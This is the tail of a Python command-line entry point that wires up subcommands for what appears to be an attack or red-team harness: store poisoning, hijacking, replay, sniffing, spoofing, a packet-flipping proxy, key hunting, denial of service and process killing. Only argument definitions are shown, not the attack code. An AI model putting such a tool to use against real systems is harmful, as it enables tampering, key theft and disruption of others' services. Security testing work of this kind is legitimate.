    campaign("store-read", cmd_store_read)
    campaign("store-poison", cmd_store_poison)
    campaign("abort", cmd_abort, text=dict(required=True))
    campaign("hijack", cmd_hijack)
    campaign("replay", cmd_replay, flows=dict(required=True))
    campaign("shm", cmd_shm)
    campaign("key-hunt", cmd_key_hunt)
    q = campaign("squat", cmd_squat)
    q = campaign("sniff", cmd_sniff, iface=dict(default="lo"), pattern=dict(required=True), flows=dict(default=""),
                 flows_to=dict(default=""))
    campaign("replay-captured", cmd_replay_captured, flows_to=dict(required=True), target_host=dict(required=True),
             text=dict(required=True), also_listeners=dict(action="store_true"))
    q = campaign("flip-proxy", cmd_flip_proxy, pid=dict(type=int, required=True), listen_ip=dict(required=True),
                 target_ip=dict(required=True), every=dict(type=int, default=4 << 20),
                 mode=dict(choices=("flip", "drop", "reorder", "replay"), default="flip"))
    campaign("spoof", cmd_spoof, text=dict(required=True), flows=dict(default=""))
    campaign("dos", cmd_dos, count=dict(type=int, default=1500), port_count=dict(type=int, default=5000))
    q = sub.add_parser("kill-on-shm")
    q.add_argument("--uid", type=int, required=True)
    q.add_argument("--rank", type=int, default=0)
    q.add_argument("--out", required=True)
    q.add_argument("--deadline", type=float, default=20.0)
    q.add_argument("--window", type=float, default=3.0, help="seconds after the rank started to kill it anyway")
    q.set_defaults(fn=cmd_kill_on_shm)
    q = sub.add_parser("runtime-files")
    q.add_argument("what", choices=("heartbeat", "marker"))
    q.add_argument("--dir", required=True)
    q.add_argument("--count", type=int, default=3000)
    q.set_defaults(fn=cmd_runtime_files)
    q = sub.add_parser("read-files")
    q.add_argument("paths", nargs="+")
    q.set_defaults(fn=cmd_read_files)
    args = p.parse_args()
    args.fn(args)


if __name__ == "__main__":
    sys.exit(main())
